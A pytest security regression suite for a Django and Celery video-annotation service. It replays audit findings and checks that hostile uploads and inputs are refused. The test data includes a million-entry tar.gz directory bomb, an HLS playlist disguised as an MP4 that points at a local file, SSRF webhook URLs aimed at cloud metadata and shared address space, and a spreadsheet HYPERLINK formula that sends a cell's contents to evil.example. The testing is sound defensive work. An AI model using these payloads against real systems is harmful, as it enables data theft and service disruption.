"""Issue 25, findings 5, 6, 7 and the HLS part of 8, replayed against a real production-mode
server (gunicorn with `config.settings`, DEBUG off, the test database on PostgreSQL, a private
Redis as its cache) and a Celery worker under the same settings. Each test failed on the code
before the fix:

- a 4.8 MB tar.gz of 1,000,000 directory entries was accepted after 78 s while the Celery child
  grew from 174 to 599 MiB; now it is refused at the entry limit, fast, in bounded memory;
- an HLS playlist uploaded as `<clip>.mp4` made ffprobe open the local file it names; now the
  clip fails with the demuxer named and the file is never opened;
- webhook targets in shared (100.64.0.0/10, 100.100.100.200) and 6to4 (2002:7f00:1::) space were
  registered (201); now 400;
- /dashboard/campaigns.csv wrote a campaign named `=HYPERLINK(...)` as is; now with a `'`.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from django.contrib.auth.hashers import PBKDF2PasswordHasher
from django.contrib.auth.models import Group, User

from annotation.models import ImportUpload
from common.models import JobStatus, WebhookEndpoint
from common.permissions import CURATOR_GROUP
from datasets_app.models import Clip, ClipStatus, VideoAttachJob
from tests.annotation.crowd_factories import crowd_campaign
from tests.factories import ClipFactory
from tests.support.hostile_files import FifoWatch, directory_bomb, hls_playlist
from tests.support.processes import CeleryWorker, purge_broker, wait_until
from tests.support.production import (
    ProductionServer,
    peak_rss_kib,
    production_server,
    production_worker,
)

pytestmark = [pytest.mark.slow, pytest.mark.celery_worker, pytest.mark.django_db(transaction=True)]

CURATOR = "bounds-curator"
CURATOR_PASSWORD = "bounds-curator-password-1"
MEMBER_LIMIT = 20000  # LEPUS_ARCHIVE_MAX_MEMBERS's default, the server's setting here


@pytest.fixture(scope="module")
def server(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[ProductionServer]:  # type: ignore[no-untyped-def]
    with (
        django_db_blocker.unblock(),
        production_server(
            log_dir=tmp_path_factory.mktemp("bounds-server"),
            extra_env={"LEPUS_WEBHOOK_ALLOW_PRIVATE": "false"},
        ) as running,
    ):
        yield running


@pytest.fixture(scope="module")
def worker(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[CeleryWorker]:  # type: ignore[no-untyped-def]
    with django_db_blocker.unblock():
        purge_broker()
        started = production_worker(log_dir=tmp_path_factory.mktemp("bounds-worker"))
    try:
        yield started
    finally:
        started.stop()


def _curator(server: ProductionServer) -> requests.Session:
    user = User.objects.create_user(CURATOR)
    # The server hashes with the production hashers, not the suite's fast one.
    user.password = PBKDF2PasswordHasher().encode(CURATOR_PASSWORD, "boundssalt000001")
    user.save(update_fields=["password"])
    user.groups.add(Group.objects.get_or_create(name=CURATOR_GROUP)[0])
    return server.curator_session(CURATOR, CURATOR_PASSWORD)


def _upload(server: ProductionServer, session: requests.Session, path: Path) -> int:
    with path.open("rb") as handle:
        response = session.post(
            f"{server.url}/api/v1/imports/",
            data={"kind": "videos"},
            files={"file": (path.name, handle)},
            timeout=120,
        )
    assert response.status_code == 202, response.text[:2000]
    return int(response.json()["id"])


# --- finding 5: archives bounded in every dimension ---------------------------------------------


def test_a_million_folders_are_refused_fast_and_the_worker_stays_small(server, worker, tmp_path):
    session = _curator(server)
    bomb = directory_bomb(tmp_path / "folders.tar.gz", entries=1_000_000)
    assert bomb.stat().st_size < 8_000_000
    assert worker.process is not None
    baseline_kib = peak_rss_kib(worker.process.pid)

    started = time.monotonic()
    job_id = _upload(server, session, bomb)
    wait_until(
        lambda: ImportUpload.objects.get(pk=job_id).is_finished,
        timeout=240,
        message=lambda: worker.log()[-3000:],
    )
    seconds = time.monotonic() - started
    growth_mib = (peak_rss_kib(worker.process.pid) - baseline_kib) / 1024

    job = ImportUpload.objects.get(pk=job_id)
    body = session.get(f"{server.url}/api/v1/imports/{job_id}/", timeout=60).json()
    print(f"refused after {seconds:.1f} s; the worker's peak RSS grew {growth_mib:.1f} MiB")
    assert job.status == JobStatus.FAILED
    assert job.error == (
        'folders.tar.gz, field "folder00000": the archive holds more than '
        f"{MEMBER_LIMIT} entries, folders included (LEPUS_ARCHIVE_MAX_MEMBERS)"
    )
    assert body["status"] == "failed" and body["error"] == job.error
    # Generous bounds: before the fix 78 s and 425 MiB more, growing with the entries.
    assert seconds < 60, seconds
    assert growth_mib < 64, growth_mib
    assert VideoAttachJob.objects.count() == 0
    server.assert_no_server_error()


# --- finding 8, HLS: ffprobe reads through a demuxer allow-list --------------------------------


def test_an_hls_playlist_uploaded_as_mp4_never_opens_the_file_it_names(server, worker, tmp_path):
    session = _curator(server)
    clip = ClipFactory(
        vatex_id="hlsclip0001_000001_000004",
        youtube_id="hlsclip0001",
        start_seconds=1.0,
        end_seconds=4.0,
    )
    watch = FifoWatch(tmp_path / "secret.ts")
    playlist = hls_playlist(tmp_path / f"{clip.vatex_id}.mp4", watch.path)
    archive = tmp_path / "clips.zip"
    with zipfile.ZipFile(archive, "w") as handle:
        handle.write(playlist, playlist.name)

    try:
        job_id = _upload(server, session, archive)

        def finished() -> bool:
            job = ImportUpload.objects.get(pk=job_id)
            video_jobs = VideoAttachJob.objects.all()
            return job.is_finished and (
                job.status != JobStatus.SUCCEEDED
                or (video_jobs.exists() and all(item.is_finished for item in video_jobs))
            )

        wait_until(finished, timeout=240, message=lambda: worker.log()[-3000:])
        opened = watch.opened_by_another.is_set()
    finally:
        watch.release()

    assert not opened, "ffprobe opened the local file the playlist names"
    assert ImportUpload.objects.get(pk=job_id).status == JobStatus.SUCCEEDED
    clip = Clip.objects.get(pk=clip.pk)
    assert clip.status == ClipStatus.ERROR
    assert clip.error_reason == (
        "the source video cannot be read: ffprobe refused the file: it is read by ffmpeg's hls "
        "demuxer, which is not on the allow-list (mov, matroska, avi, flv, mpeg, mpegvideo, "
        "mpegts, ogg, asf)"
    )
    assert clip.video_key == ""


# --- finding 6: webhook targets -----------------------------------------------------------------


def test_webhook_targets_in_shared_and_transition_space_are_refused(server):
    session = _curator(server)
    refused = {}
    for url in (
        "http://100.100.100.200/latest/meta-data/",
        "http://100.64.0.1/hook",
        "http://[2002:7f00:1::]/hook",
        "http://[::ffff:100.100.100.200]/hook",
    ):
        response = session.post(f"{server.url}/api/v1/webhooks/", json={"url": url}, timeout=60)
        refused[url] = (response.status_code, response.json())
    public = session.post(
        f"{server.url}/api/v1/webhooks/", json={"url": "https://93.184.215.14/hook"}, timeout=60
    )

    assert {url: status for url, (status, _) in refused.items()} == dict.fromkeys(refused, 400)
    assert refused["http://100.100.100.200/latest/meta-data/"][1] == {
        "url": ["100.100.100.200 resolves to a non-public address"]
    }
    assert public.status_code == 201, public.text
    assert list(WebhookEndpoint.objects.values_list("url", flat=True)) == [
        "https://93.184.215.14/hook"
    ]
    server.assert_no_server_error()


# --- finding 7: CSV formula injection -----------------------------------------------------------


def test_campaigns_csv_neutralises_a_formula_in_a_campaign_name(server):
    session = _curator(server)
    campaign = crowd_campaign(slug="hyperlink", clips=1, candidates_per_clip=1)
    campaign.name = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    campaign.save(update_fields=["name"])

    response = session.get(f"{server.url}/dashboard/campaigns.csv", timeout=60)

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["slug"] == "hyperlink"
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert row["candidates"] == "1"
